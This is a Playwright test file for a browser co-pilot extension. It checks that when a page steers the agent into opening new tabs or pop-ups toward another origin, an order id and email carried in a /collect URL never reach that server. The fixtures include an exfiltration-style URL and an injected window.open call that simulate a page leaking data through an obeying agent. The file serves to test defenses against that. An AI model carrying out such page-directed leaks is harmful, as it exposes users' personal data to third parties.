import type { ChatRequestBody } from '../../sites/model/scripted-server.ts';
import { test, expect } from '../harness/fixtures.ts';
import { configureCopilot, refIn, runToEnd, startModel, startRun, type Run } from '../harness/copilot-helpers.ts';
import { startOtherOrigin, type OtherOrigin } from '../harness/nav-other-origin.ts';
import { openNewTabPage, tabUrls } from '../harness/browser.ts';

/**
 * A click of the agent's that opens a NEW tab or window towards another origin: a link with
 * target="_blank", a button whose handler calls window.open, a form with target="_blank" that
 * posts — each on an allowed lab page (sites/lab/new-tabs.ts), each carrying a page fact to
 * another local server. The co-pilot's model obeys the page; where a step needs the person, the
 * person approves it. Ground truth is the other server's own request log: it receives nothing,
 * the tab the click opened is gone, and the agent is told what happened. The person's own new
 * tab, opened while the agent's step is still running, goes wherever the person sends it.
 * (Playwright's Chromium runs without the popup blocker: the worst case, a person who allowed pop-ups.)
 */

const act = (name: string, input: Record<string, unknown>, thought: string) => JSON.stringify({ kind: 'act', thought, action: { name, input }, expect: 'the partner page opens' });
const done = JSON.stringify({ kind: 'done', thought: 'Done.', claim: 'The partner page is open.' });
const LEAK = 'order=ORD-1024&email=jordan%40example.com';

let other: OtherOrigin;
test.beforeEach(async () => {
  other = await startOtherOrigin();
});
test.afterEach(async () => {
  await other.stop();
});

const clicks: Record<string, [role: string, name: string]> = {
  'a link with target="_blank"': ['link', 'Open the partner offer'],
  'a button whose click handler calls window.open': ['button', 'Open the partner window'],
  'a form with target="_blank" posting the order': ['button', 'Send the order to the partner'],
};

/** The URLs of every tab the browser has open, read by Steward's own service worker. */

const clickStep = (run: Run) => run.steps.find((s) => s.action?.name === 'dom.click');
const said = (step: Run['steps'][number] | undefined) => `${step?.status} ${step?.error ?? ''} ${step?.outcome ?? ''}`;

for (const [how, [role, name]] of Object.entries(clicks)) {
  test(`${how}: the other origin receives no request, and the agent is never told the step worked`, async ({ steward, sites, openPanel, tabIdOf }) => {
    const model = await startModel();
    try {
      const page = await steward.context.newPage();
      await page.goto(`${sites.urls.lab}/new-tabs?to=${encodeURIComponent(`${other.url}/collect?${LEAK}`)}`);
      const panel = await openPanel(page);
      const tabId = await tabIdOf(page);
      await configureCopilot(panel, model);
      model.script([(body: ChatRequestBody) => act('dom.click', { ref: refIn(body, role, name) }, 'The page says to open the partner.'), () => done]);

      const started = await startRun(panel, tabId, 'Open the partner offer.');
      const run = await runToEnd(panel, started.run_id);

      expect(other.received, 'the other origin received a request').toEqual([]);
      const step = clickStep(run);
      expect(step, JSON.stringify(run.steps)).toBeDefined();
      // Chrome shows Steward nothing of a tab on a site it has no access to (per-site access), not
      // always even its error page: the agent is told the step was stopped, or that its outcome is
      // unknown — never that it worked. A tab Steward could see on the error page is closed.
      expect(said(step), JSON.stringify(step)).toMatch(/SITE_NOT_ALLOWED|unknown/);
      if (/SITE_NOT_ALLOWED/.test(said(step))) expect(said(step)).toContain('opened a new tab to another site');
      expect(new URL(page.url()).origin).toBe(new URL(sites.urls.lab).origin);
    } finally {
      await model.stop();
    }
  });
}

test("the person's own new tab to another site loads while the agent's step runs; the page's pop-up in that same moment is stopped", async ({ steward, sites, openPanel, tabIdOf }) => {
  const model = await startModel();
  const lab = sites.urls.lab;
  const waiting = async () => ((await (await fetch(`${lab}/new-tabs/__waiting`)).json()) as { waiting: number }).waiting;
  try {
    const page = await steward.context.newPage();
    await page.goto(`${lab}/new-tabs?to=${encodeURIComponent(`${other.url}/collect?${LEAK}`)}`);
    const panel = await openPanel(page);
    const tabId = await tabIdOf(page);
    await configureCopilot(panel, model);
    model.script([(body: ChatRequestBody) => act('dom.click', { ref: refIn(body, 'link', 'Load the yearly report') }, 'Open the report.'), () => done]);

    const started = await startRun(panel, tabId, 'Open the yearly report.');
    // The agent's click is being followed: the lab holds the report's answer, so the step (and its fence) is still running.
    await expect.poll(waiting).toBe(1);

    // The person opens a tab of their own (Ctrl+T: the New Tab page) and types the other site's address.
    const mine = await openNewTabPage(steward);
    const response = await mine.goto(`${other.url}/weather?city=Lyon`);
    expect(response?.status()).toBe(200);
    expect(other.received.map((r) => r.path)).toContain('/weather?city=Lyon');

    // In the same moment, the agent's page (its document is still there until the report arrives) opens a pop-up towards the other origin.
    // (Through Steward's worker: Playwright no longer evaluates in a page whose navigation has started.)
    await steward.serviceWorker.evaluate(
      async ({ tabId, to }) => void (await chrome.scripting.executeScript({ target: { tabId }, world: 'MAIN', func: (url: string) => void window.open(url, '_blank'), args: [to] })),
      { tabId, to: `${other.url}/collect?${LEAK}` },
    );
    await expect.poll(async () => (await tabUrls(steward)).some((u) => u.startsWith(`${other.url}/collect`))).toBe(true);
    await fetch(`${lab}/new-tabs/__release`, { method: 'POST' });
    const run = await runToEnd(panel, started.run_id);

    expect(
      other.received.map((r) => r.path),
      'the pop-up reached the other origin',
    ).not.toContainEqual(expect.stringMatching(/^\/collect/));
    expect(said(clickStep(run))).not.toMatch(/\bconfirmed\b/);
    expect(mine.url()).toBe(`${other.url}/weather?city=Lyon`);
    expect(await mine.locator('h1').textContent()).toBe('You reached the other origin');
  } finally {
    await model.stop();
  }
});
